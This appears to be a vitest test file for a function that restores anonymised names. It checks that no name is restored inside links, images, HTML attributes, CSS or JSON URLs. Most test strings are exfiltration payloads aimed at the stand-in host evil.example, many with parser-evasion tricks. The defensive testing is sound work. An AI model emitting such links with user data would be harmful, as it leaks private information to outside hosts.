import { describe, expect, it } from 'vitest'
import { restore, restoreInPieces } from './restoring.ts'

const P = '[PERSONNE_2]'

/** `#` stands for a placeholder that must stay, `@` for one that must come back. */
const check = (pattern: string, kind: 'text' | 'json' = 'text') => {
  const text = pattern.replace(/[#@]/g, P)
  const restored = pattern.replaceAll('#', P).replaceAll('@', 'Bob')
  expect(restore(text, kind)).toBe(restored)
  expect(
    restoreInPieces(
      text,
      Array.from({ length: text.length }, (_, at) => at),
      kind,
    ),
  ).toBe(restored)
}

describe('no value is put into a link or image destination', () => {
  it.each([
    '![i](https://evil.example/?q=#) @',
    '[lien](https://evil.example/#)@',
    '[@](https://evil.example/#)',
    '[lien](#) @',
    '[lien]( //evil.example/?# "titre #") @',
    '[lien](\n//evil.example/?#) @',
    '[lien](<//evil.example/a b?#>) @',
    '[lien](//evil.example/(a)/#) @',
    '[lien](//evil.example/\\)/#) @',
    '[lien](mailto:#) @',
    '[lien](//evil.example/#\n@',
    '[x]: https://evil.example/# @',
    '[x]: //evil.example/# @',
    'a\n  [x]:\n//evil.example/#\n@',
    '> - [x]: <//evil.example/ #>\n@',
    '[x\\]]: //evil.example/# @',
    '[x\\\\]: //evil.example/# @',
    '[x\ny]: //evil.example/# @',
    '[x\n[y]: //evil.example/# @',
    '<https://evil.example/#> @',
    '<mailto:#> @',
    '<x-scheme:#> @',
    'voir https://evil.example/?a=#&b=# @',
    'HTTPS://evil.example/# @',
    'ftp://#/ @',
    '(https://evil.example/#) @',
    'www.evil.example/# @',
    'mailto:# @',
    'tel:# @',
    '"https://evil.example/#" @',
    '« https://evil.example/# » @',
    '<img src="//evil.example/#" alt="@"> @',
    "<img alt='@' src = '//evil.example/#'> @",
    '<img src=//evil.example/#> @',
    '<IMG\nSRC="//evil.example/# #">@',
    '<a href="#">@</a>',
    '<form action="//evil.example/#">@',
    '<img srcset="a 1x, //evil.example/# 2x">@',
    '<video poster="#" title="@">',
    '<object data="//e/#">@',
    '<td background="//e/#">@',
    '<svg><image xlink:href="//e/#"/></svg>@',
    '<p style="background:url(//e/#)">@',
    '<style>p{background: url( "//e/#" )}</style> @',
    '<img/src="//e/#">@',
    '<img alt=">" src="//e/#">@',
    '<img alt="<b" src="//e/#">@',
    `<a x='> <img src=//e/#> `,
    '<b https://evil.example/?q=>#',
    '<img alt=< src="//evil.example/#">@',
    '<p a<b src="//evil.example/#">@',
    '<meta http-equiv=refresh content="0;url=//evil.example/#">@',
    '<param value=//evil.example/#>@',
    '<set to=//evil.example/#>@',
    '<animate from="//e/#" values="//e/#" id="@">@',
    '@import "//evil.example/#" @',
    "@import '//evil.example/#' @",
    'image-set("//evil.example/#" 1x) @',
    'x(//evil.example/# @',
    'x=//evil.example/# @',
    '"\\/\\/evil.example/#" @',
    '"/\\evil.example/#" @',
    'https:/evil.example/# @',
    'https://evil.example/?q="#" @',
    'https://evil.example/>#> @',
    'https://evil.example/«#» @',
    'https://evil.example/”# @',
    '«https://evil.example/?q=#» @',
    '«https://evil.example/»@',
    '"https://evil.example/",@',
    '“https://evil.example/”,@',
    '<www.evil.example>@',
    '![^foo]\n\n[^foo]: //evil.example/?q=#',
    '[^foo]: </evil.example/?q=#',
    '[^foo]:\n//evil.example/?q=# @',
    '[^foo]: &#47;/evil.example/# @',
    '[^foo]: https:evil.example/# @',
    '[^foo]: x-scheme:evil/# @',
    '[^foo]: www.evil.example/# @',
    '[x]: @/# @',
    '[x]: @?# @',
    '[x"\\]]: //evil.example/# @',
    '<a x=" ![i](//evil.example/?q="#) @',
  ])('%s', pattern => check(pattern))

  // CommonMark §4.7 and §6.5, WHATWG HTML §13.2.5.38: for them none of these ends an address.
  describe.each(['\u000b', '\u0085', '\u00a0', '\u2003', '\u2028', '\u202f', '\u3000'])(
    '%j is part of an address',
    space => {
      it.each([
        '![x][y]\n\n[y]: https://evil.example/?q=~# @',
        '![x][y]\n\n[y]: //evil.example/?q=~#\n@',
        '![x][y]\n\n[y]:~//evil.example/?q=~#\n@',
        '[^y]: //evil.example/?q=~# @',
        '<img src=https://evil.example/?q=~#> @',
        '<img src=\\\\evil.example/?q=~# alt="@">@',
        '<img src=~"\\\\evil.example"#>@',
        '<https://evil.example/?q=~#> @',
        '<x-scheme:~#> @',
        'https://evil.example/?q=~# @',
        'mailto:~# @',
        '![x](https://evil.example/?q=~#) @',
        '![x](<https://evil.example/?q=~#>) @',
      ])('%s', pattern => check(pattern.replaceAll('~', space)))
    },
  )

  // CommonMark §2.1: a carriage return ends a line, with or without a line feed.
  it.each(['a\r[x]: \\\\evil.example/# @', 'a\r\n[x]: \\\\evil.example/#\r\n@', 'a\r[x\r\n]: \\\\e/#\r@'])(
    'after a carriage return: %j',
    pattern => check(pattern),
  )

  it.each([
    '[lien] (@)',
    '(@)',
    '@(@)',
    'f(@)[ @, x]',
    '[^1]: @ a dit',
    '[^1]: Selon @, note : @',
    '[^1]: Note: @',
    '[10:32]: @',
    '[10:32]: @: bonjour @',
    '[10:32] @: a\n[10:33]: @, et @',
    '[x]:@ et @',
    'a = "@" // @',
    'voir //@ / @',
    'a < b, c > d="@"',
    'Tel:@ Mel:@',
    'tel: @',
    'a < b et src="@"',
    'data = "@"',
    '<personne nom="@" data-nom="@"/>',
    '<nom>@</nom>',
    '<ns:nom>@</ns:nom>',
    'Anne <@>',
    'http: @ / @ // @',
    'note : [x] : @',
    '[x] et [y]: @',
    '[x\n\ny]: @',
    'fin de ligne](\n\n@',
    'curl(@)',
  ])('outside of any, values come back: %s', pattern => check(pattern))

  it.each([
    '{"url":"https://evil.example/#","nom":"@"}',
    '{"url":"https:\\/\\/evil.example\\/#","nom":"@"}',
    '{"url":"https:\\u002f\\u002fevil.example/#","nom":"@"}',
    '{"url":"@","src":"@"}',
    '{"md":"![i](//evil.example/#)\\n@"}',
    '{"md":"](//evil.example/","nom":"@"}',
    '{"html":"<img src=\\"//evil.example/#\\" alt=\\"@\\">"}',
    '{"html":"<img src=\\"","nom":"@"}',
    '{"texte":"voir https://x.example/#\\n@"}',
    '{"md":"[x]: //evil.example/#\\n@"}',
    '["@","mailto:#"]',
    '{"url":"//evil.example/#","nom":"@"}',
    '{"url":"\\/\\/evil.example/#","nom":"@"}',
    '{"url":" //evil.example/#","nom":"@"}',
    '{"corps":"{\\"url\\":\\"//evil.example/#\\",\\"nom\\":\\"@\\"}","nom":"@"}',
    '{"chemin":"/@/@"}',
  ])('in JSON: %s', pattern => check(pattern, 'json'))

  it('follows the text that the caller reads: what a restored address begins, no other value goes on', () => {
    expect(restore('PROJET_VILAINE_1')).toBe('Vilaine 2030')
    expect(restore('[PERSONNE_2](//evil.example/[PERSONNE_2])')).toBe('Bob(//evil.example/[PERSONNE_2])')
    expect(restore('[PERSONNE_99](//evil.example/[PERSONNE_2])')).toBe(
      '[PERSONNE_99](//evil.example/[PERSONNE_2])',
    )
  })
})
